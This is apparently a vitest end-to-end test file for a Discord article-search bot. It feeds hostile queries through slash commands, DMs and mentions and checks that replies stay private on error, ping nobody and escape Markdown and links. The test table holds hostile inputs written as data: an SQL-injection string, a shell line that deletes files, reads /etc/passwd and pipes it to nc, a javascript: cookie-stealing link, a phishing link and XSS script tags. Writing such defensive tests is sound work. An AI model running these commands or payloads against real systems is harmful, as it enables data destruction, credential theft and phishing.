/**
 * Hostile queries through the real bot (discord.js against the fake Discord): each row of the table
 * goes through the question commands as a slash-command option, and a few through DMs and
 * @mentions. Every answer must arrive, be private when it is an error (with a message saying what
 * to do), ping nobody and show no live mention, keep every Discord limit, keep its formatting
 * (nothing the user typed can open bold, spoilers, code or a link), and log nothing at error level.
 * docs/reliability.md lists each row with what the user sees.
 */
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { chatInput, dmMessage, mention, type InteractionRecord } from '../harness/index.js';
import {
  answerOf,
  expectCleanRun,
  expectWithinLimits,
  interactionLog,
  isEphemeral,
  startBot,
  textOf,
  unescaped,
  type MessageBody,
  type TestBot,
} from '../e2e/helpers.js';
import { messageProblems } from './safety.js';

/** The question commands and their text option (/timeline's topic is optional). */
const COMMANDS = [
  ['search', 'terms'],
  ['who', 'name'],
  ['ask', 'question'],
  ['timeline', 'topic'],
] as const;
const ALL_TEXT_COMMANDS = [
  ...COMMANDS,
  ['when', 'event'],
  ['where', 'thing'],
  ['what', 'topic'],
  ['quote', 'name'],
] as const;

type Expect =
  /**
   * Answered publicly: `shows` is matched against the echoed query (the embed title as the user
   * reads it, Markdown escapes removed), `says` against the whole message; `finds` says whether
   * passages must (true) or must not (false) be cited by /search and /ask.
   */
  | { answered: true; shows?: RegExp; says?: RegExp; finds?: boolean }
  /** Refused privately with this message (from the question commands; /timeline's topic is optional). */
  | { refused: RegExp };

interface Row {
  what: string;
  query: string;
  expect: Expect;
}

const MAX = 200;
const words200 = 'summit '.repeat(40).slice(0, MAX);

export const ROWS: Row[] = [
  { what: 'an empty query', query: '', expect: { refused: /Please give (a|an|some) \w+, for example: \// } },
  {
    what: 'a whitespace-only query',
    query: ' \t  \u3000 ',
    expect: { refused: /Please give (a|an|some) \w+, for example: \// },
  },
  {
    what: 'a query of exactly the maximum length (200)',
    query: words200,
    expect: { answered: true, shows: /summit summit/ },
  },
  {
    what: 'a query one over the maximum length (201)',
    query: words200 + 'x',
    expect: { refused: /too long: keep (it|them) under 200 characters/ },
  },
  {
    what: 'one 5,000-character token',
    query: 'A'.repeat(5_000),
    expect: { refused: /too long: keep (it|them) under 200 characters/ },
  },
  {
    what: 'one 200-character token',
    query: 'Z'.repeat(MAX),
    expect: { answered: true, shows: /ZZZZZZZZ/, finds: false },
  },
  {
    what: 'only stop words',
    query: 'the of and to a in',
    expect: { answered: true, says: /only common words|No one called|Nothing about/, finds: false },
  },
  { what: 'only punctuation', query: '?!.,;:…—()', expect: { answered: true, finds: false } },
  { what: 'emoji', query: '🕊️ 🇺🇦 👍🏽 summit', expect: { answered: true, shows: /🇺🇦/ } },
  {
    what: 'zero-width characters inside a name',
    query: 'Pes\u200Bkov\u200D\uFEFF',
    expect: { answered: true, shows: /Peskov/, finds: true },
  },
  {
    what: 'bidi-control characters',
    query: '\u202Esummit\u202C \u2066talks\u2069',
    expect: { answered: true, shows: /summit talks/, finds: true },
  },
  { what: 'NUL characters', query: 'sum\u0000mit\u0000', expect: { answered: true, finds: true } },
  {
    what: 'lone surrogates',
    query: '\uD800summit\uDFFF talks\uDBFF',
    expect: { answered: true, shows: /summit talks/, finds: true },
  },
  {
    what: 'mixed scripts',
    query: 'Песков Peskov 佩斯科夫 بيسكوف',
    expect: { answered: true, shows: /Песков Peskov 佩斯科夫/ },
  },
  {
    what: 'regex metacharacters',
    query: '.*+?^${}()|[]\\ (a|b)* summit',
    expect: { answered: true, shows: /\.\*\+\?\^\$\{\}/ },
  },
  {
    what: 'an SQL-looking string',
    query: "'; DROP TABLE articles; -- OR 1=1",
    expect: { answered: true, shows: /DROP TABLE articles; -- OR 1=1/, finds: false },
  },
  {
    what: 'a shell-looking string',
    query: '$(rm -rf /) `whoami` && cat /etc/passwd | nc evil 1',
    expect: { answered: true, shows: /\$\(rm -rf \/\) `whoami`/, finds: false },
  },
  { what: '@everyone', query: '@everyone summit', expect: { answered: true, shows: /@\u200Beveryone/ } },
  { what: '@here', query: '@here summit', expect: { answered: true, shows: /@\u200Bhere/ } },
  {
    what: 'a user mention <@id> and <@!id>',
    query: '<@1100000000000000200> <@!1100000000000000201> summit',
    expect: { answered: true, shows: /<\u200B@1100000000000000200> <\u200B@!1100000000000000201>/ },
  },
  {
    what: 'a role mention <@&id>',
    query: '<@&1100000000000000100> summit',
    expect: { answered: true, shows: /<\u200B@&1100000000000000100>/ },
  },
  {
    what: 'a channel mention <#id>',
    query: '<#1100000000000000101> summit',
    expect: { answered: true, shows: /<\u200B?#1100000000000000101>/ },
  },
  {
    what: 'slash-command mentions, guide links and timestamps',
    query: '</admin reindex:1200000000000000001> <id:customize> <t:0:R> summit',
    expect: { answered: true, shows: /<\u200B\/admin reindex/ },
  },
  {
    what: 'unbalanced bold, italic and underline (**, *, __)',
    query: '**summit *talks __Peskov',
    expect: { answered: true, shows: /\*\*summit \*talks __Peskov/ },
  },
  {
    what: 'an unbalanced spoiler (||)',
    query: '||summit talks',
    expect: { answered: true, shows: /\|\|summit talks/ },
  },
  {
    what: 'strikethrough and an unclosed spoiler in the middle',
    query: 'summit ~~talks|| Peskov',
    expect: { answered: true, shows: /~~talks\|\|/ },
  },
  { what: 'a lone backtick', query: '`summit talks', expect: { answered: true, shows: /`summit/ } },
  {
    what: 'an unclosed fenced block (```)',
    query: '```summit talks',
    expect: { answered: true, shows: /```summit/ },
  },
  {
    what: 'a whole fenced block over several lines',
    query: '```js\nalert(1)\n```\nsummit',
    expect: { answered: true, shows: /```js alert\(1\) ```/ },
  },
  {
    what: 'a masked javascript: link',
    query: '[summit](javascript:alert(document.cookie))',
    expect: { answered: true, shows: /\[summit\]\(javascript:alert/ },
  },
  {
    what: 'a masked https link with a fake label',
    query: '[discord.com](https://evil.example/login) summit',
    expect: { answered: true, shows: /\[discord\.com\]\(https:\/\/evil\.example\/login\)/ },
  },
  {
    what: 'a URL carrying mention-like parts',
    query: 'https://evil.example/@everyone?next=<@1>&x=1 summit',
    expect: { answered: true, shows: /https:\/\/evil\.example\/@\u200Beveryone/ },
  },
  {
    what: 'quote, heading, subtext and list markers',
    query: '> quote\n# heading\n-# subtext\n1. list\n- item summit',
    expect: { answered: true, shows: /> quote # heading -# subtext 1\. list - item summit/ },
  },
  {
    what: 'HTML and a script tag',
    query: '<script>alert(1)</script><img src=x onerror=alert(1)>',
    expect: { answered: true, shows: /<script>alert\(1\)/ },
  },
  {
    what: 'stacked combining marks (zalgo)',
    query: 's̷̡̛̤u̸̢͚m̵̨̛m̶̡͙i̴̢̛t̷̨̛ ' + 'a\u0301\u0302\u0303\u0304\u0305\u0306\u0307\u0308'.repeat(15),
    expect: { answered: true },
  },
  {
    what: 'fifty newlines around a word',
    query: '\n'.repeat(25) + 'summit' + '\n'.repeat(25),
    expect: { answered: true, shows: /summit/, finds: true },
  },
  {
    what: 'a word repeated until every passage is mostly bold',
    query: 'summit Biden Putin talks '.repeat(8).trim(),
    expect: { answered: true, finds: true },
  },
];

describe('hostile queries through the bot', () => {
  let t: TestBot;

  beforeAll(async () => {
    t = await startBot();
  });
  afterAll(async () => {
    await t?.stop();
  });

  async function ask(name: string, option: string, query: string) {
    const rec = await t.fake.interact(chatInput({ name, options: { [option]: query } }));
    return { rec, body: answerOf(rec) };
  }

  /** The checks every hostile answer gets, whatever it says. */
  function expectSafe(rec: InteractionRecord, body: MessageBody, label: string) {
    expect(rec.callback, `${label}: answered`).not.toBeNull();
    expectWithinLimits(body, label);
    expect(body.allowed_mentions, label).toEqual({ parse: [], replied_user: false });
    expect(messageProblems(body), label).toEqual([]);
  }

  for (const row of ROWS) {
    it(`${row.what}: answered safely by /search, /who, /ask and /timeline`, async () => {
      for (const [name, option] of COMMANDS) {
        const label = `/${name} ${JSON.stringify(row.query.slice(0, 40))}`;
        const { rec, body } = await ask(name, option, row.query);
        expectSafe(rec, body, label);
        const text = unescaped(textOf(body));
        const e = row.expect;
        const log = await interactionLog(t, rec.id);
        if ('refused' in e && !(name === 'timeline' && row.query.trim() === '')) {
          expect(isEphemeral(rec), label).toBe(true);
          expect(text, label).toMatch(e.refused);
          expect(text, label).not.toMatch(/error id/);
          expect(log.outcome, label).toBe('user-error');
        } else {
          expect(isEphemeral(rec), label).toBe(false);
          expect(log.outcome, label).toBe('answered');
          if ('answered' in e && e.shows)
            expect(unescaped(body.embeds?.[0]?.title ?? ''), label).toMatch(e.shows);
          if ('answered' in e && e.says) expect(text, label).toMatch(e.says);
          if ('answered' in e && e.finds === true && name !== 'who' && name !== 'timeline') {
            expect(body.embeds?.[0]?.fields?.length ?? 0, `${label}: found passages`).toBeGreaterThan(0);
          }
          if ('answered' in e && e.finds === false && name !== 'timeline') {
            expect(body.embeds?.[0]?.fields ?? [], `${label}: no passages`).toEqual([]);
          }
        }
      }
    });
  }

  it('zero-width characters inside a name: /who finds the person the same as typed plainly', async () => {
    const plain = await ask('who', 'name', 'Peskov');
    const hidden = await ask('who', 'name', 'Pe\u200Bsk\u200Cov\u2060');
    expect(textOf(hidden.body)).toContain('Dmitry Peskov');
    expect(hidden.body.embeds?.[0]?.fields).toEqual(plain.body.embeds?.[0]?.fields);
  });

  it('the nastiest query is answered safely by every text command', async () => {
    const nasty =
      '@everyone <@&1> ||**`[x](javascript:alert(1))`**|| ```\u202E\u0000\uD800 summit Peskov ~~__';
    for (const [name, option] of ALL_TEXT_COMMANDS) {
      const { rec, body } = await ask(name, option, nasty);
      expectSafe(rec, body, `/${name}`);
      expect(isEphemeral(rec), `/${name}`).toBe(false);
    }
  });

  describe('in DMs and @mentions', () => {
    async function dm(content: string) {
      const since = t.fake.sentMessages.length;
      const m = dmMessage({ content });
      t.fake.dispatch('MESSAGE_CREATE', m);
      const sent = await t.fake.waitForMessage(m.channel_id, { since });
      const body = sent.request?.body as MessageBody;
      expectWithinLimits(body, 'dm');
      expect(messageProblems(body)).toEqual([]);
      expect(body.allowed_mentions).toEqual({ parse: [], replied_user: false });
      return { body, text: unescaped(textOf(body)), log: await t.waitForLog((l) => l.message === m.id) };
    }

    it('a 5,000-character DM is told it is too long, without an error id', async () => {
      const { text, log } = await dm('who is ' + 'x'.repeat(5_000));
      expect(text).toMatch(/too long: keep (it|them) under 200 characters/);
      expect(text).not.toMatch(/error id/);
      expect(log.outcome).toBe('user-error');
    });

    it('a DM with a fenced block, spoilers and @everyone is answered with all of it neutralised', async () => {
      const { body, text } = await dm('```\n@everyone ||who|| is **Peskov\n```');
      expect(text).toMatch(/@\u200Beveryone/);
      expect(unescaped(body.embeds?.[0]?.title ?? '')).toMatch(/```/);
    });

    it('a DM of only a slash, a NUL and a role mention says the command is unknown', async () => {
      const { text, log } = await dm('/\u0000<@&1>');
      expect(text).toMatch(/Unknown command/);
      expect(log.outcome).toBe('user-error');
    });

    it('an empty DM (an attachment only) gets the help', async () => {
      const { text } = await dm('');
      expect(text).toMatch(/Ask about the articles/);
    });

    it('a guild @mention with @here and a role mention replies to the message and pings nobody', async () => {
      const since = t.fake.sentMessages.length;
      const m = mention({ content: '@here <@&1100000000000000100> when is the summit?' });
      t.fake.dispatch('MESSAGE_CREATE', m);
      const sent = await t.fake.waitForMessage(m.channel_id, { since });
      const body = sent.request?.body as MessageBody;
      expect(sent.message.message_reference?.message_id).toBe(m.id);
      expect(body.allowed_mentions).toEqual({ parse: [], replied_user: false });
      expect(messageProblems(body)).toEqual([]);
      expect(unescaped(textOf(body))).toMatch(/@\u200Bhere/);
    });
  });

  it('after all of it the bot still answers, logged nothing at error level, and sent nothing Discord refuses', async () => {
    const { body } = await ask('who', 'name', 'Peskov');
    expect(textOf(body)).toContain('Dmitry Peskov');
    expect(t.logs.filter((l) => l.level >= 50)).toEqual([]);
    expect(t.logs.filter((l) => l.msg === 'interaction' && l.outcome === 'error')).toEqual([]);
    expectCleanRun(t);
  });
});
